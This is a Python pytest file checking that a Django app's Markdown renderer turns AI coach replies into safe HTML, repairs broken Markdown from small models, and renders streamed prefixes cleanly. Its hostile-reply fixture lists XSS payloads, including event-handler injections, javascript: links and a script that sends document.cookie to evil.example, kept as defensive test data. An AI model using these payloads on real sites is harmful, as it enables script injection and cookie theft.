"""Markdown from the model becomes sanitised HTML: sessions_app/markdown.py."""

import pytest
from django.template import Context, Template
from django.utils.safestring import SafeString

from sessions_app.markdown import ALLOWED_TAGS, markdown_to_text, render_markdown
from sessions_app.tests.html_checks import elements, unsafe_bits

# Replies a model could be tricked into writing (prompt injection), one per attack.
HOSTILE_REPLIES = {
    "script tag": "Hello <script>alert('x')</script> there",
    "script block": "<script>\ndocument.location='https://evil.example/?c='+document.cookie\n</script>",
    "img onerror": '<img src=x onerror="alert(1)">',
    "svg onload": "<svg onload=alert(1)><circle r=5 /></svg>",
    "svg in markdown list": "- <svg/onload=alert(1)>",
    "javascript link": "[click me](javascript:alert(1))",
    "javascript link, mixed case": "[click](JaVaScRiPt:alert(1))",
    "javascript link, entity tab": "[click](java&#x09;script:alert(1))",
    "javascript link, encoded": "[click](javascript&#58;alert(1))",
    "javascript autolink": "<javascript:alert(1)>",
    "javascript reference link": "[click][x]\n\n[x]: javascript:alert(1)",
    "vbscript link": "[click](vbscript:msgbox(1))",
    "data link": "[open](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "data image": "![pixel](data:image/png;base64,iVBORw0KGgo=)",
    "remote image": "![tracker](https://evil.example/pixel.png)",
    "image with handler in title": '![a](https://evil.example/a.png "x" onerror="alert(1)")',
    "iframe": '<iframe src="https://evil.example/"></iframe>',
    "iframe srcdoc": '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    "html in code block": "```html\n<script>alert(1)</script>\n<img src=x onerror=alert(1)>\n```",
    "html in inline code": "Use `<img src=x onerror=alert(1)>` carefully",
    "object and embed": '<object data="https://evil.example/x.swf"></object><embed src="x">',
    "style tag": "<style>body{display:none}</style>",
    "inline style": '<p style="position:fixed;inset:0">cover</p>',
    "form": '<form action="https://evil.example/"><input name=password></form>',
    "meta refresh": '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    "base tag": '<base href="https://evil.example/">',
    "link with onclick via attribute syntax": '[x](https://ok.example/ "t" onclick="alert(1)")',
    "html comment": "<!-- <script>alert(1)</script> -->visible",
    "math": "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "nested quotes": '<a href="javascript:alert(1)">x</a>',
    "table with script": "| a |\n|---|\n| <script>alert(1)</script> |",
}


@pytest.mark.parametrize("reply", HOSTILE_REPLIES.values(), ids=HOSTILE_REPLIES.keys())
def test_nothing_hostile_survives(reply):
    html = render_markdown(reply)
    assert unsafe_bits(html) == []
    found = elements(html)
    assert {tag for tag, _ in found} <= ALLOWED_TAGS
    for needle in ("<script", "<iframe", "<svg", "<img", "<style", "<object", "<embed", "<form"):
        assert needle not in html.lower()
    for tag, attrs in found:
        assert set(attrs) <= {"href", "title", "target", "rel", "start", "class"}, (tag, attrs)
        if "href" in attrs:
            assert attrs["href"].startswith(("https://", "http://", "mailto:")), attrs


def test_raw_html_is_shown_as_text_not_markup():
    html = render_markdown("Hello <b>bold</b> <script>alert(1)</script>")
    assert "&lt;b&gt;bold&lt;/b&gt;" in html
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in html


def test_code_blocks_keep_their_text_escaped():
    html = render_markdown("```html\n<script>alert(1)</script>\n```")
    assert html.startswith("<pre><code>")
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in html


def test_images_become_plain_links_with_their_alt_text():
    html = render_markdown("See ![a *calm* room](https://example.com/room.png).")
    assert "<img" not in html
    assert (
        '<a href="https://example.com/room.png" target="_blank" rel="nofollow noopener">'
        "a calm room</a>" in html
    )


def test_images_with_unsafe_urls_become_their_alt_text_only():
    for url in ("data:image/png;base64,AAAA", "/relative.png", "javascript:alert(1)"):
        html = render_markdown(f"![the alt]({url})")
        assert "<a" not in html and "<img" not in html
        assert "the alt" in html


def test_links_open_safely():
    html = render_markdown('[docs](https://example.com/a?b=1&c=2 "The docs")')
    assert html == (
        '<p><a href="https://example.com/a?b=1&amp;c=2" title="The docs" target="_blank" '
        'rel="nofollow noopener">docs</a></p>\n'
    )


def test_relative_links_lose_their_target():
    html = render_markdown("[log out](/accounts/logout/)")
    assert "href" not in html


def test_ordinary_markdown_renders():
    html = render_markdown(
        "# Plan\n\n1. **Breathe** slowly\n2. Walk *outside*\n\n> note\n\n"
        "| Day | Minutes |\n|:----|--------:|\n| Mon | 10 |\n\n~~old~~ `code`\n\n---\n"
    )
    for fragment in (
        "<h1>Plan</h1>",
        "<ol>",
        "<strong>Breathe</strong>",
        "<em>outside</em>",
        "<blockquote>",
        "<table>",
        '<th class="align-left">Day</th>',
        '<td class="align-right">10</td>',
        "<s>old</s>",
        "<code>code</code>",
        "<hr>",
    ):
        assert fragment in html
    assert "style=" not in html


def test_ordered_list_start_is_kept():
    assert '<ol start="3">' in render_markdown("3. three\n4. four")


def test_result_is_safe_string_and_empty_input_is_empty():
    assert isinstance(render_markdown("x"), SafeString)
    assert render_markdown("") == ""
    assert render_markdown(None) == ""


def test_plain_text_excerpt_has_no_markup():
    text = markdown_to_text("# Plan\n\n**Breathe** <script>x</script> [link](https://a.example)")
    assert text == "Plan Breathe <script>x</script> link"
    assert markdown_to_text("word " * 100, 30).endswith("…")
    assert len(markdown_to_text("word " * 100, 30)) <= 30
    assert markdown_to_text("") == ""


def test_template_filters():
    template = Template(
        "{% load stepwise %}{{ reply|markdown }}|{{ reply|markdown_excerpt:20 }}|{{ s|goal_line }}"
    )

    class Card:
        goal_tags = ["deep rest"]
        goal_text = "  sleep\nbetter  "

    out = template.render(Context({"reply": "**Hi** <b>x</b>", "s": Card()}))
    html, excerpt, goal = out.split("|")
    assert html == "<p><strong>Hi</strong> &lt;b&gt;x&lt;/b&gt;</p>\n"
    # The excerpt is plain text, escaped by the template like any text.
    assert excerpt == "Hi &lt;b&gt;x&lt;/b&gt;"
    assert goal == "deep rest; sleep better"


@pytest.mark.django_db
@pytest.mark.parametrize("viewer", ["visitor", "owner"])
def test_hostile_replies_are_harmless_on_the_session_page_and_in_the_gallery(client, user, viewer):
    from django.urls import reverse

    from sessions_app.tests.public_builders import build_session

    turns = [("assistant", reply) for reply in HOSTILE_REPLIES.values()]
    turns.append(("user", "<script>alert('me')</script><img src=x onerror=alert(1)>"))
    session = build_session(owner=user, title="<svg onload=alert(1)>", turns=turns)
    if viewer == "owner":
        client.force_login(user)
    for url in (session.get_absolute_url(), reverse("sessions:gallery")):
        response = client.get(url)
        assert response.status_code == 200
        assert unsafe_bits(response.text, page=True) == [], url
    page = client.get(session.get_absolute_url()).text
    # Rendered, not dropped: the coach's Markdown shows, people's text is escaped.
    assert "&lt;script&gt;alert(&#x27;me&#x27;)&lt;/script&gt;" in page
    link = '<a href="https://evil.example/pixel.png" target="_blank" rel="nofollow noopener">'
    assert link in page


# --- Broken Markdown from small models (sessions_app/markdown_repair.py) -------------

# Replies SmolLM2-135M and friends really write, each with what it must render as.
SMALL_MODEL_REPLIES = {
    "bold step without its closer": (
        "**Step 1: Wind down** at 22:30\n\n**Step 2: Dim the lights at 23:00\n\n"
        "Step 3: Read a paper book.",
        "<p><strong>Step 1: Wind down</strong> at 22:30</p>\n"
        "<p>Step 2: Dim the lights at 23:00</p>\n<p>Step 3: Read a paper book.</p>\n",
    ),
    "unclosed bold in a list item": (
        "1. **Breathe\n2. **Walk** slowly",
        "<ol>\n<li>Breathe</li>\n<li><strong>Walk</strong> slowly</li>\n</ol>\n",
    ),
    "opener that would pair with the next step's": (
        "**Step 1: Wind down at 22:30. Dim the lights. **Step 2:** Breathe.",
        "<p>Step 1: Wind down at 22:30. Dim the lights. <strong>Step 2:</strong> Breathe.</p>\n",
    ),
    "no space after the closer": (
        "**Step 1:**Wind down and **relax**",
        "<p><strong>Step 1:</strong>Wind down and <strong>relax</strong></p>\n",
    ),
    "three stars for two": (
        "***Step 1:** Walk",
        "<p><strong>Step 1:</strong> Walk</p>\n",
    ),
    "unclosed italic and underscore": (
        "*Note: go to bed early\n\n_Tip: no screens",
        "<p>Note: go to bed early</p>\n<p>Tip: no screens</p>\n",
    ),
    "unclosed strikethrough": ("~~Coffee after 14:00", "<p>Coffee after 14:00</p>\n"),
    "markers dangling at the end of a line": (
        "Do this **\nthen that\n**",
        "<p>Do this \nthen that\n</p>\n",
    ),
    "unclosed backtick": ("Run `pip install calm now", "<p>Run pip install calm now</p>\n"),
    "lone hash and empty headings": (
        "#\n\nYour plan\n\n##\n\n## **\n\nStart at 22:30",
        "<p>Your plan</p>\n<p>Start at 22:30</p>\n",
    ),
    "heading without a space": (
        "###Step 1: Wind down\nDim the lights.",
        "<h3>Step 1: Wind down</h3>\n<p>Dim the lights.</p>\n",
    ),
    "heading without a space, closing hashes": ("##Plan ##", "<h2>Plan</h2>\n"),
    "heading without a space in a list": (
        "- ###Morning\n- Walk",
        "<ul>\n<li>\n<h3>Morning</h3>\n</li>\n<li>Walk</li>\n</ul>\n",
    ),
    "korean": (
        "**1단계: 긴장 풀기** 22:30\n\n**2단계: 조명 낮추기\n\n###3단계",
        "<p><strong>1단계: 긴장 풀기</strong> 22:30</p>\n"
        "<p>2단계: 조명 낮추기</p>\n<h3>3단계</h3>\n",
    ),
    "thematic break of stars": ("Plan\n\n* * *\n\nDone", "<p>Plan</p>\n<hr>\n<p>Done</p>\n"),
    "empty code fence": ("Here:\n\n```\n```", "<p>Here:</p>\n"),
}


@pytest.mark.parametrize(
    ("reply", "expected"), SMALL_MODEL_REPLIES.values(), ids=SMALL_MODEL_REPLIES.keys()
)
def test_broken_markdown_from_small_models_is_tidied(reply, expected):
    assert render_markdown(reply) == expected


# What is plain text, or code, stays exactly as written.
KEPT_AS_WRITTEN = {
    "arithmetic": ("5 * 3 = 15 and 2*3", "5 * 3 = 15 and 2*3"),
    "snake_case": ("set wake_up_time and bed_time", "set wake_up_time and bed_time"),
    "tilde for about": ("~ 10 minutes", "~ 10 minutes"),
    "lone backtick between spaces": ("Press the ` key", "Press the ` key"),
    "hashtag and numbers": ("#1 priority\n#sleep", "#1 priority\n#sleep"),
    "escaped stars": (r"\*\*not bold", "**not bold"),
}


@pytest.mark.parametrize(("reply", "text"), KEPT_AS_WRITTEN.values(), ids=KEPT_AS_WRITTEN.keys())
def test_plain_text_markers_stay(reply, text):
    assert render_markdown(reply) == f"<p>{text}</p>\n"


def test_code_is_never_touched():
    html = render_markdown(
        "Use `**kwargs` and `_private`:\n\n```python\n# comment\n##x = 1\ndef f(**kw): ~~\n```"
    )
    assert "<code>**kwargs</code>" in html
    assert "<code>_private</code>" in html
    assert "<pre><code># comment\n##x = 1\ndef f(**kw): ~~\n</code></pre>" in html


def test_an_unclosed_code_fence_runs_to_the_end_as_written():
    # As CommonMark says: while streaming, the code being written shows as code.
    html = render_markdown("Try this:\n\n```\n**Step 1: Breathe\n# not a heading")
    assert html == "<p>Try this:</p>\n<pre><code>**Step 1: Breathe\n# not a heading</code></pre>\n"


def test_inside_links_tables_and_quotes_too():
    assert render_markdown("[**Guide](https://a.example) and **more") == (
        '<p><a href="https://a.example" target="_blank" rel="nofollow noopener">Guide</a>'
        " and more</p>\n"
    )
    assert "<td>x</td>" in render_markdown("| a |\n|---|\n| **x |")
    assert (
        render_markdown("> **quote\n> more") == "<blockquote>\n<p>quote\nmore</p>\n</blockquote>\n"
    )


def test_excerpts_are_tidied_as_well():
    assert markdown_to_text("#\n\n**Step 1: Wind down\n\n`x") == "Step 1: Wind down x"


STREAMED_REPLY = (
    "#\n\n### Your evening plan\n\n"
    "**Step 1: Wind down** at 22:30. Dim the lights and put the phone *away*.\n\n"
    "**Step 2: Breathe for ten minutes, then read a paper book.\n\n"
    "1. **Breathe in** for 4\n2. **Hold for 7\n3. Out for 8 (`4-7-8`)\n\n"
    "* * *\n\n"
    "**Step 3:** Lights out at 23:45. ~~Coffee~~ Tea after 14:00.\n"
)
# Everything the finished reply emphasises, and nothing else.
EMPHASISED = {"Step 1: Wind down", "away", "Breathe in", "Step 3:"}


def _visible_text(html: str) -> str:
    """The text a reader sees outside code."""
    import re

    html = re.sub(r"<code>.*?</code>", "", html, flags=re.DOTALL)
    return re.sub(r"<[^>]+>", "", html)


def test_every_streamed_prefix_renders_cleanly():
    """The page renders the reply so far on every delta: no prefix may bold what its
    closer has not reached yet, show stray markers, or leave an empty block."""
    import re

    for end in range(1, len(STREAMED_REPLY) + 1):
        prefix = STREAMED_REPLY[:end]
        html = render_markdown(prefix)
        for emphasised in re.findall(r"<(?:strong|em)>(.*?)</(?:strong|em)>", html):
            assert emphasised in EMPHASISED, (prefix, html)
        visible = _visible_text(html)
        for marker in ("**", "__", "~~", "`"):
            assert marker not in visible, (prefix, html)
        assert not re.search(r"<(h[1-6]|p)>\s*</\1>", html), (prefix, html)
    final = render_markdown(STREAMED_REPLY)
    assert "<strong>Step 1: Wind down</strong>" in final
    assert "Step 2: Breathe for ten minutes" in _visible_text(final)
    assert "<strong>Step 2" not in final
    assert "<hr>" in final and "<s>Coffee</s>" in final and "<code>4-7-8</code>" in final
